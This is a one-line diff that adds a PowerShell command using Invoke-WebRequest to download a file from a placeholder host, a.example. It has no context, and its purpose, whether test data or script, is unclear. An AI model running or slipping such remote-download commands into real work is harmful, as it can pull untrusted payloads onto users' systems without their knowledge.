@@ -1,0 +1,1 @@
+powershell -Command "iwr http://a.example/p/x.txt"
